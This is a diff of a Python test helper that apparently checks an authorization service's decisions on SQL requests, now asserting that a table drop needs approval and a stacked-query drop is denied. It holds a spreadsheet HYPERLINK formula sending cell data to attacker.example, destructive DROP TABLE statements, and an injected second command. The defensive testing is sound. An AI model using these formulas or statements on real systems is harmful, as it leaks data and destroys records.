@@ -13,6 +13,7 @@ from deployment import Deployment, deployed
 from service import sql_request
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
+_ASKED = {"DROP TABLE public.invoices": "needs_approval", "SELECT 1; DROP TABLE secret": "deny"}
 Export = Callable[..., tuple[Path, dict[str, Any]]]
 
 
@@ -24,8 +25,9 @@ def exportable(folder: Path) -> Iterator[Deployment]:
             run = started.opened(tenant, prompt=FORMULA)["access_token"]
             allowed = started.ask(run)["decision_id"]
             started.call("POST", f"/decisions/{allowed}/outcome", run, {"status": "ok"})
-            for sql in ("DROP TABLE public.invoices", "SELECT 1; DROP TABLE secret"):
-                started.call("POST", "/authorize", run, sql_request(sql, None))
+            for sql, effect in _ASKED.items():
+                answer = started.call("POST", "/authorize", run, sql_request(sql, None))
+                assert answer.json["effect"] == effect, answer.json  # not for want of time
         yield started
 
 
